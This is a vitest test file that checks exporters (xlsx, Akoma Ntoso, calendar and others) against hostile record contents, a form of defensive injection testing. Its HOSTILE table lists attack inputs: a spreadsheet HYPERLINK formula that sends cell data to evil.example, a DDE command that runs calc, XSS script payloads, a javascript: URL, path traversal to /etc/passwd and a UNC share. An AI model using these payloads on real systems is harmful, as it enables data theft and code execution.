import {describe, expect, test, vi} from 'vitest';
import {EXPORTER_NAMES, type ExporterName} from '../src/cli/export/exporters.ts';
import type {Entry} from '../src/exporters/exporter.ts';
import {recordSchema} from '../src/record.ts';
import {CHECKS, NO_SCHEMA, validAkomaNtoso} from './support/export-checks.ts';
import {exported, fixtureEntries, NEEDED} from './support/exporting.ts';

vi.setConfig({testTimeout: 60_000});

/** Whatever stands in a record, in whichever field: what comes out is still a file of its format, and says the same. */

const HOSTILE: Record<string, string> = {
  empty: '',
  blanks: ' \t \n ',
  'a formula': '=HYPERLINK("http://evil.example?"&A1,"x")',
  'a command': "=cmd|'/C calc'!A0",
  plus: '+84 24 1234',
  minus: '-1+1|x',
  at: '@SUM(1+1)*cmd',
  'tab and formula': '\t=1+1',
  'return and formula': '\r=1+1',
  'full-width formula': '＝1＋1',
  quotes: `"a","b";'c'""\\"\\n,;`,
  'end of CDATA': ']]> <![CDATA[x]]> &amp; &#0; &nope; <!-- -- > <?xml?>',
  script: '</script><script>alert(1)</script><img src=x onerror=alert(1)>"\'onload=alert(1)',
  'style end': '</style></title></textarea><svg/onload=alert(1)>',
  controls: `${Array.from({length: 32}, (_, at) => `a${String.fromCharCode(at)}`).join('')}\u007f\u0085\u009b31m`,
  escapes: '\u001b[31mđỏ\u001b]8;;http://evil.example\u0007x',
  bidirectional: 'a\u202eb\u2066c\u2069d\u200fe\u061cf\u2028g\u2029h',
  'half a pair': 'a\ud800b\udc00c\ud83d',
  noncharacters: '\ufeffa\ufffeb\uffffc\u{1fffe}d',
  emoji: '👩‍👩‍👧‍👦 e\u0301\u0302\u0303 Ẩn 🇻🇳',
  'many marks': `a${'\u0301'.repeat(500)}b`,
  calendar: 'x\r\nEND:VTODO\r\nBEGIN:VALARM\nTRIGGER:-P1D;,:\\',
  markdown: '# a\n\n- [x] b | c \\| d\n> e\n```f```\n![g](h) [i]: j *k* __l__ <m@n.o> http://p.q www.r.s ~~t~~ [^u]',
  underscores: '_x0041_ _X000D_ _x000a',
  'a way up': '../../../etc/passwd',
  'a protocol': 'javascript:alert(1)//',
  'a share': '\\\\evil.example\\share\\x',
  'a host': '//evil.example/x?y#z',
  prototype: '__proto__',
  'constructor.name': 'constructor',
  'no number': 'NaN',
  'long words': 'Ủ'.repeat(3000),
};

/** Names that the contract fixes: whoever writes something else there has written no record. */
const FIXED = new Set(['schema', 'format', 'kind', 'urgency', 'secrecy', 'role', 'type', 'anchor', 'sha256']);

/** The value in every field that may hold it; days that are none, and numbers that are too large. */
function hostile<T>(node: T, value: string, key = ''): T {
  if (typeof node === 'string') {
    if (/^\d{4}-\d\d-\d\d$/.test(node)) return (value.length % 2 ? '2024-02-30' : '9999-99-99') as T;
    return (FIXED.has(key) ? node : value) as T;
  }
  if (typeof node === 'number') return (key === 'part' || key === 'references' ? node : Number.MAX_SAFE_INTEGER) as T;
  if (Array.isArray(node)) return node.map((item) => hostile(item, value, key)) as T;
  if (node === null || typeof node !== 'object') return node;
  return Object.fromEntries(Object.entries(node).map(([name, item]) => [name, hostile(item, value, name)])) as T;
}

function hostileEntries(value: string): Entry[] {
  return fixtureEntries().map(({record, text}, at) => {
    const spans = Object.fromEntries([
      ...Object.entries(record.spans).map(([pointer, span], i) => [pointer, i % 3 ? span : hostile(span, value)]),
      [value, {start: 5, end: 2, line: 1, column: 1}],
    ]);
    const made = {...hostile(record, value), spans};
    // Every other one keeps its source: what is in the text may be hostile too.
    return {record: recordSchema.parse(made), text: at % 2 ? `${value}\n${text}${value}` : null};
  });
}

describe.each(EXPORTER_NAMES)('%s', (name: ExporterName) => {
  test.each(Object.keys(HOSTILE))('%s in every field', async (title) => {
    const entries = hostileEntries(HOSTILE[title] as string);
    const single = name === 'akn' || name === 'edxml';
    for (const part of single ? entries.map((entry) => [entry]) : [entries]) {
      await CHECKS[name](await exported(name, part, {...NEEDED[name], includeUndated: true, alarms: ['P1D']}), part);
    }
  });

  test('a task text of a megabyte', async () => {
    const [entry] = fixtureEntries() as [Entry];
    // Without signs of Markdown: the parser that reads it back takes minutes for a megabyte of those.
    const text = 'Giao Sở Nội vụ rà soát, lập danh mục; "báo cáo" kịp thời, thường xuyên = 100%.\n'.repeat(12_700);
    expect(text.length).toBeGreaterThan(1_000_000);
    const tasks = entry.record.tasks.map((task, at) => (at === 0 ? {...task, text} : task));
    const entries = [{record: {...entry.record, tasks, subject: text}, text: entry.text}];
    const began = Date.now();
    const out = await exported(name, entries, NEEDED[name]);
    expect(Date.now() - began).toBeLessThan(5000);
    await CHECKS[name](out, entries);
    if (name === 'xlsx' || name.startsWith('nd30')) expect(out.losses.cut).toBeGreaterThan(0);
  }, 60_000);
});

test.skipIf(NO_SCHEMA)(
  'Akoma Ntoso stays valid',
  async () => {
    const all = Object.values(HOSTILE).flatMap(hostileEntries);
    await validAkomaNtoso(await Promise.all(all.map(async (entry) => (await exported('akn', [entry])).text)));
  },
  60_000,
);
